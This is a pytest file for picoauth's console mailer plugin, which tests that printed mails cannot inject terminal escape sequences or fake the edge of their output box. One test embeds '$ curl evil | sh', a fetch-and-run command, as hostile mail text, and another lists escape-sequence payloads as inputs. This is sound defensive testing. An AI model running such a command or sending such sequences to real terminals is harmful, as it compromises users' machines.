"""Mail on standard output: what people see of it, and what a mail cannot do to their terminal."""

from __future__ import annotations

import io
import sys
from dataclasses import replace
from pathlib import Path

import pytest

from picoauth import ConfigError, Message, Unavailable
from picoauth.testing import serving
from picoauth_mail_console import ConsolePlugin, boxed

SETTINGS = 'plugins = ["password", "mail-console"]\n'
ANN = Message(
    id="1",
    to="ann@example.com",
    subject="Hello Ann",
    text="Hello Ann,\r\n\r\nopen https://auth.example.org/#token=abc\nto go on.\n",
    html="<p>not shown</p>",
    expires_at=2_000_000_000,
)


async def sent(folder: Path, message: Message) -> None:
    async with serving(folder, SETTINGS) as server:
        assert server.auth.mailer is not None
        await server.auth.mailer.send(message)


async def test_mail(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Whom it is for, its subject and its text, in a box that leaves links in one piece."""
    await sent(tmp_path, ANN)
    rule = "─" * 72
    assert (
        f"┌{rule}\n"
        "│ To: ann@example.com\n"
        "│ Subject: Hello Ann\n"
        "│\n"
        "│ Hello Ann,\n"
        "│\n"
        "│ open https://auth.example.org/#token=abc\n"
        "│ to go on.\n"
        f"└{rule}\n"
    ) == capsys.readouterr().out


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("\x1b[2J\x1b[1;1Hgone", "�[2J�[1;1Hgone"),
        ("\x9b2Jgone", "�2Jgone"),
        ("\x1b]0;title\x07", "�]0;title�"),
        ("over\rwritten", "over written"),
        ("back\b\bspace\x7f", "back��space�"),
        ("a\tb\vc\fd\x85e\u2028f\u00a0g", "a b c d e f g"),
        ("\u202egnorw\u202c \u2066x\u2069", "�gnorw� �x�"),
        ("\0\ud800\ue000\ufeff", "����"),
        ("Grüße 🗝 ünï", "Grüße 🗝 ünï"),
    ],
)
def test_terminal_is_safe(text: str, shown: str) -> None:
    """Nothing moves the cursor, colours, beeps, hides or turns around, wherever it stands."""
    found = boxed(replace(ANN, to=text, subject=text, text=text))
    lines = [line.removeprefix("│ ") for line in found.split("\n")]
    assert [f"To: {shown}", f"Subject: {shown}", shown] == [lines[1], lines[2], lines[4]]
    assert all(c == "\n" or c.isprintable() for c in found)


def test_box_cannot_be_faked() -> None:
    """A line of a mail that looks like the end of the box stands within it."""
    found = boxed(replace(ANN, text=f"Hello\n└{'─' * 72}\n$ curl evil | sh"))
    assert all(line.startswith("│") for line in found.splitlines()[1:-1])


async def test_letters_that_the_terminal_lacks(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """They are written otherwise, instead of losing the mail."""
    raw = io.BytesIO()
    monkeypatch.setattr(sys, "stdout", io.TextIOWrapper(raw, encoding="ascii"))
    await sent(tmp_path, replace(ANN, subject="Grüße"))
    assert b"\\u2502 Subject: Gr\\xfc\\xdfe\n" in raw.getvalue()


class Closed(io.StringIO):
    """As of a pipe that nobody reads."""

    def flush(self) -> None:
        raise BrokenPipeError


async def test_no_output(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A mail that cannot be shown is kept, and tried again."""
    closed = io.StringIO()
    closed.close()
    for stream in (None, closed, Closed()):
        monkeypatch.setattr(sys, "stdout", stream)
        with pytest.raises(Unavailable, match=r"^standard output is closed$"):
            await sent(tmp_path, ANN)


@pytest.mark.parametrize(
    ("url", "warned"),
    [
        ("http://127.0.0.1:8100", False),
        ("http://localhost:8100", False),
        ("http://[::1]:8100", False),
        ("https://auth.example.org", True),
    ],
)
async def test_doctor(tmp_path: Path, url: str, warned: bool) -> None:  # noqa: FBT001
    """On a server that others reach, links that log somebody in do not belong into its log."""
    said = (
        "Mails go to standard output, where whoever reads the log can use their links, "
        "and to nobody else: list another mailer, such as smtp, in place of mail-console."
    )
    async with serving(tmp_path, f'{SETTINGS}public_url = "{url}"') as server:
        [check] = server.auth.plugin(ConsolePlugin).checks()
        assert ("mail-console", False, "warning") == (check.name, check.live, check.level)
        assert (said if warned else None) == await check.run()


async def test_beside_another_mailer(tmp_path: Path) -> None:
    """The slot has one occupant: nobody is left to guess which of them sends."""
    smtp = '[smtp]\nhost = "localhost"\nsender = "auth@example.org"'
    with pytest.raises(ConfigError) as caught:
        async with serving(tmp_path, f'plugins = ["password", "mail-console", "smtp"]\n{smtp}'):
            pass
    assert (
        "The slot mailer is filled by plugin mail-console (picoauth-mail-console 0.1.0) "
        "and plugin smtp (picoauth-smtp 0.1.0): list one of them."
    ) == str(caught.value)
